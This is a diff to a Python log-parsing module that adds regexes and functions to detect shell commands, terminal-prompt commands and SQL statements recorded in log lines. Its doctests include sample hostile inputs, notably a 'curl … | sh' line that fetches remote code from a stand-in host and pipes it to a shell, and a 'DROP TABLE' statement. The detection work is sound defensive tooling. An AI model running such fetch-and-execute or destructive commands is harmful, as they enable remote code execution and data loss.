@@ -19,13 +19,14 @@ from .weblog import METHODS, WebRequest
 _SAID = re.compile(r"(?:^|(?<=[\s\"'\[(|:]))(?<!-X )(?<!--request )(?<!Method )([A-Z]{3,9}) ((?:https?://[^\s\"'/]{1,260})?/[^\s\"]{0,8000})\"?(?:[ ,:>=-]{1,4}HTTP/\d(?:\.\d)?\"?)?(?:[ ,:>=-]{1,4}(?:status[=: ]{1,2})?([1-5]\d\d)(?![\w.]))?")
 #: In lower case: a search for words of either case looks at every place.
 _SAID_COMMAND = re.compile(r"(?:execut(?:ed|ing|e)|exec|ran|run|running|spawn(?:ed|ing)?|start(?:ed|ing)?|launch(?:ed|ing)?|invok(?:ed|ing|e)|subprocess|command|cmd|commandline|cmdline|shell|args|input)"
-                           r"(?:[ _](?:as \S{1,40} )?(?:shell|command|process|subprocess|program|cmd|line|script|call|args))*(?:\s?(:|->|=>)\s{0,3}|\s{0,3}(?=[\"'`\[])|\s{1,3})")
+                           r"(?:[ _](?:as \S{1,40} )?(?:shell|command|process|subprocess|program|cmd|line|script|call|args))*"
+                           r"(?: (?:accepted|received|queued|dispatched|authorized|started|\d{1,7}))?(?: (?:by|for|from|on) [^\s:]{1,60}(?=\s?(?::|->|=>) ))?(?:\s?(:|->|=>)\s{0,3}|\s{0,3}(?=[\"'`\[])|\s{1,3})")
 #: One of these stands in all of them: to look for each costs less than to search for all.
 _WORDS_FOR_ACTS = ("exec", "run", "ran", "spawn", "start", "launch", "invok", "subprocess", "command", "cmd", "shell", "args", "input")
 #: No word for an act stands behind these: they are another word's, a name's or a page's.
 _BEFORE_SAID = re.compile(r"[\w.?&'-]")
 #: Behind another word these bid somebody to run something.
-_BIDDING = re.compile(r"(?:run|execute|invoke)\b")
+_BIDDING = re.compile(r"(?<!about to )(?:run|execute|invoke)\b")
 _SAID_REACH = 400
 #: So many places are looked at where one of these may begin.
 SAID_MAX = 6
@@ -70,7 +71,8 @@ def command_told(text: str) -> Optional[Told]:
         return None
     for said in islice((said for said in _SAID_COMMAND.finditer(head) if _is_word_for_act(head, said.start())), SAID_MAX):
         bare = None if _is_of_other(text, said.start()) or _is_given(text, said.start()) else certain(value_from(text, said.end()))
-        if bare is not None and (said[1] or is_plain(bare) or text[said.end():said.end() + 1] in _OPENING and has_shell_sign(bare.value)):
+        opening = text[said.end():said.end() + 1]
+        if bare is not None and (said[1] or is_plain(bare) or opening in _OF_CODE or opening in _OPENING and has_shell_sign(bare.value)):
             return said.start(), bare
     return None
 
@@ -104,10 +106,10 @@ def _is_of_other(text: str, start: int) -> bool:
 
 
 #: What members are called that hold an application's own words.
-MESSAGES = ("message", "msg", "text")
+MESSAGES = ("message", "msg", "text", "eventmessage", "log", "description")
 _NAME_BEFORE = re.compile(r"([\w.-]{1,60})=\Z")
-#: Signs that open a value in a sentence.
-_OPENING = frozenset("\"'`[")
+#: Signs that open a value in a sentence, and those that open nothing but what a program reads.
+_OPENING, _OF_CODE = frozenset("\"'`["), frozenset("`")
 #: Where a value in quotes ends, though such quotes may stand in it: the line does, or goes on in its own words.
 _CLOSING = {sign: re.compile(rf"{sign}(?=\s*(?:\Z|[,;)\]|])| (?:in|on|as|by|for|with|from|at|exit|rc|took|returned|user|pid|\(|\w+=))") for sign in "\"'`"}
 _CLOSING["["] = re.compile(r"\](?=\Z|[\s,;)/.:])")
@@ -192,6 +194,31 @@ _PROMPTS = frozenset("+$>")
 _FREE_MAX = 24
 _PROGRAM_NAMED = re.compile(r"\"?(?:[A-Z][a-z]{2,12}-[A-Z]\w{2,60}(?=[\s;|(])|([A-Za-z][\w.+-]{1,40})(?=[\s\"])|[A-Za-z]:\\|/(?:usr/)?(?:local/)?s?bin/|/(?:var/)?tmp/|/dev/shm/|[.&]? ?\(|\$[\w:{]{1,60}\s?[+=.\[(|]|\[[A-Za-z]|\.\\)")
 _CELLS = frozenset("|;,\t")
+
+
+def command_prompted(text: str) -> Optional[Told]:
+    """A command that a terminal showed behind its prompt, which a line may begin with or hold behind a time.
+
+    >>> command_prompted("2031-03-01T10:11:12Z sh-4.2$ curl -s http://gate/x | sh")[1].programs, command_prompted("db7 C:\\jobs>net stop a")[1].value
+    (('curl', 'sh'), 'net stop a')
+    >>> command_prompted("login failed for ann@db7 /tmp % curl -s http://gate/x")
+    """
+    head = text[:_PROMPT_REACH]
+    if not any(sign in head for sign in ("$ ", "# ", " % ", "PS", ":\\")):
+        return None
+    for prompt in islice(_PROMPTED.finditer(head), SAID_MAX):
+        start = prompt.end()
+        if "=" in text[:prompt.start()] and not prompt[1] or text.count('"', 0, start) % 2 or is_strangers(text, prompt.start()) or _is_given(text, prompt.start()):
+            continue
+        bare = bare_of(text[start:start + LINE_REACH].strip())
+        if bare is not None and bare.kind == COMMAND and (prompt[1] or " " in bare.value):
+            return prompt.start(), bare
+    return None
+
+
+_PROMPT_REACH = 300
+#: What shells print before what is typed: with a place, a user and a host, which nothing else looks like, or with a name at most.
+_PROMPTED = re.compile(r"(?:\A|(?<=\s))(?:((?:\[[\w.-]{1,80}\]: )?PS(?: (?:[A-Za-z]:\\|~|/)[^>\n]{0,120})?> ?|[A-Za-z]:\\[^<>|\"\n:]{0,120}(?<! )> ?|\[?[\w.-]{1,40}@[\w.-]{1,80}(?:[: ][^\s$#%\]]{0,120})?\]?(?:[$#]| %) )|[\w.-]{0,60}[$#] )(?=\S)")
 
 
 def _cell_from(text: str, start: int, sign: Optional[str]) -> str:
@@ -297,14 +324,38 @@ def is_statement(text: object) -> bool:
     return isinstance(text, str) and _STATEMENT.match(text) is not None
 
 
-_STATEMENT = re.compile(r"(?is)\s{0,20}(?:/\*.{0,200}?\*/\s{0,20})?(?:select\s(?:.{0,4000}?(?:\bfrom\s|\()|\s*[@\d'])|insert\s+into\s|update\s+\S+\s+set\s|delete\s+from\s|merge\s+into\s|load\s+data\s|"
-                        r"(?:drop|alter|create|truncate)\s+(?:or\s+replace\s+)?(?:table|database|schema|user|role|login|function|procedure|trigger|view|index|server|system|extension|assembly)\s|"
-                        r"(?:grant|revoke)\s.{1,400}?\s(?:on|to|from)\s|copy\s.{1,2000}?\s(?:to|from)\s|exec(?:ute)?\s+(?:\w{1,60}\.{1,2}){0,3}(?:xp|sp|usp)_\w|call\s+[\w.]{1,80}\s?\(|with\s+\w{1,60}\s+as\s{0,3}\(|declare\s+@)")
-_SAID_STATEMENT = re.compile(r"(?i)(?:\b(?:sql|query|execut(?:ed|ing|e))\b[^:\n]{0,60}:|\(\d{1,6}\.\d{1,6}\))\s{1,3}(?=[a-z/])")
+#: What statements begin with. Words that people write as well count in capitals alone, as those write them that ask databases.
+_STATEMENT = re.compile(r"(?is)\s{0,20}(?:/\*.{0,200}?\*/\s{0,20})?(?:(?:explain\s+(?:analyze\s+)?)?select\s(?:.{0,4000}?(?:\bfrom\s|\()|\s*[@\d'])|(?:bulk\s+insert|insert\s+(?:/\*.{0,200}?\*/\s*)?into)\s|"
+                        r"update\s+\S+\s+(?:set\s|(?:as\s+)?\w{1,40}\s+set\s+\S{1,80}\s*=)|delete\s+from\s|merge\s+into\s|load\s+data\s|"
+                        r"(?:drop|alter|create|truncate)\s+(?:or\s+replace\s+)?(?:table|database|schema|user|role|login|function|procedure|trigger|view|index|server|system|extension|assembly|(?:\w{1,20}\s+)?audit\s+(?:policy|specification))\s|"
+                        r"(?:grant|revoke)\s.{1,400}?\s(?:on|to|from)\s|copy\s.{1,2000}?\s(?:to|from)\s|exec(?:ute)?\s+(?:\w{1,60}\.{1,2}){0,3}(?:xp|sp|usp)_\w|exec(?:ute)?\s?\(\s?n?'|execute\s+as\s+(?:user|login)\s|"
+                        r"call\s+[\w.]{1,80}\s?\(|with\s+\w{1,60}\s+as\s{0,3}\(|declare\s+@|begin\s+\w{1,60}(?:\.\w{1,60}){1,3}\s?[(;]|"
+                        r"truncate\s+[\w.\"`\[\]]{1,120}\s*(?:;|\Z)|refresh\s+materialized\s+view\s|set\s+(?:global|persist|@@\w)|(?:backup|restore)\s+(?:database|log|certificate)\s|change\s+(?:master|replication\s+source)\s+to\s|"
+                        r"create\s+event\s+\S{1,80}\s+on\s|dbcc\s+\w{1,40}\s?\(|waitfor\s+delay\s|(?:start|stop|reset)\s+(?:slave|replica)\b|install\s+(?:component|plugin)\s|noaudit\s|lock\s+tables?\s+\S{1,120}\s+in\s|"
+                        r"(?-i:ANALYZE|VACUUM|REINDEX|FLUSH|SHOW|EXPLAIN|KILL|HANDLER|WAITFOR|COMMENT ON|EXEC(?:UTE)?|CREATE_REPLICATION_SLOT|START_REPLICATION|SET(?: (?:ROLE|NAMES|SESSION|LOCAL|TRANSACTION)| [\w.@]{1,60}(?= ?=| TO ))|(?:DROP|ALTER|CREATE)\s+[A-Z]{2,12})(?=\s))")
+#: What goes before a statement in a line, and in a row of cells; behind a database's own mark its reader knows whether it is one.
+_SAID_STATEMENT = re.compile(r"(?i)(?:(?<!LOG: )(?<!LOG:  )\b(?:sql|query|statement|execut(?:ed|ing|e))\b[^:\n]{0,60}:|\(\d{1,6}\.\d{1,6}\))\s{1,3}(?=[a-z/])")
+_CELL_OF_STATEMENT = re.compile(r"([|;,\t]) ?(?=\"?(?:SELECT|INSERT|UPDATE|DELETE|DROP|ALTER|CREATE|TRUNCATE|GRANT|REVOKE|COPY|EXEC|EXECUTE|MERGE|CALL|WITH|DECLARE|LOAD|BULK|BACKUP|SET|SHOW|REFRESH|select|exec) )")
+#: Somebody typed what stands behind these.
+_TYPED = re.compile(r"(?i)\b(?:search\w{0,3}|typed|wrote|said|posted|subject|comment\w{0,3}|title|mail|chat|question|note|forum|feedback|review|ticket)\b")
+
+
+#: Words that begin what an application says and name no host, and what is said so and no program.
+_VERBS = frozenset("executing executed running ran launching invoking spawning starting slow exec execute".split())
+_SUBJECTS = frozenset("command cmd cmdline commandline exec sql query statement args shell input ran running executing executed".split())
+
+
+def is_said(host: Optional[str], program: str) -> bool:
+    """Whether what looks like the `host` and the `program` of a header are an application's words for what it ran.
+
+    >>> is_said("Executing", "SQL"), is_said(None, "command"), is_said("db1", "sql")
+    (True, True, False)
+    """
+    return host.lower() in _VERBS if host else program.lower() in _SUBJECTS
 
 
 def _has_sign_of_statement(head: str) -> bool:
-    return ": " in head and ("sql" in head or "query" in head or "execut" in head) or ") " in head and "select " in head
+    return ": " in head and ("sql" in head or "query" in head or "execut" in head or "statement" in head) or head[:head.find(") ") if ") " in head else 0][-1:].isdecimal()
 
 
 def statement_said(text: str) -> str:
@@ -313,7 +364,33 @@ def statement_said(text: str) -> str:
     >>> statement_said("WARN Slow query (2103 ms): SELECT count(*) FROM orders"), statement_said("query: select a colour")
     ('SELECT count(*) FROM orders', '')
     """
+    told = statement_told(text)
+    return told[1] if told is not None else ""
+
+
+def statement_told(text: str) -> Optional[Tuple[int, str]]:
+    """The same, and where the words begin that tell it."""
     said = _SAID_STATEMENT.search(text, 0, _SAID_REACH) if _has_sign_of_statement(text[:_SAID_REACH].lower()) else None
-    if said is None or _STATEMENT.match(text, said.end()) is None or _is_of_other(text, said.start()) or is_strangers(text, said.start()):
-        return ""
-    return text[said.end():said.end() + LINE_REACH]
+    if (said is None or _STATEMENT.match(text, said.end()) is None or _is_of_other(text, said.start()) or _is_given(text, said.start())
+            or _TYPED.search(text, 0, said.end()) is not None):
+        return None
+    return said.start(), text[said.end():said.end() + LINE_REACH]
+
+
+def statement_in_cells(text: str) -> Optional[Tuple[int, str]]:
+    """A statement that is a cell of its own, and where it begins.
+
+    >>> statement_in_cells("2031-03-01 10:11:12;db1;ann;DROP TABLE orders;0"), statement_in_cells("10:11|ann|SELECT a colour|0")
+    ((28, 'DROP TABLE orders'), None)
+    """
+    for opening in islice(_CELL_OF_STATEMENT.finditer(text, 0, _SAID_REACH), SAID_MAX):
+        start, sign = opening.end(), opening[1]
+        if text.find(sign, 0, opening.start()) < 0 or text.count('"', 0, start) % 2 or is_strangers(text, start) or _is_given(text, start):
+            continue
+        cell = _cell_from(text, start, sign)
+        if _STATEMENT.match(cell) is not None and (cell[0].isupper() or _SIGN_OF_STATEMENT.search(cell) is not None):
+            return start, cell
+    return None
+
+
+_SIGN_OF_STATEMENT = re.compile(r"[*(='@]")
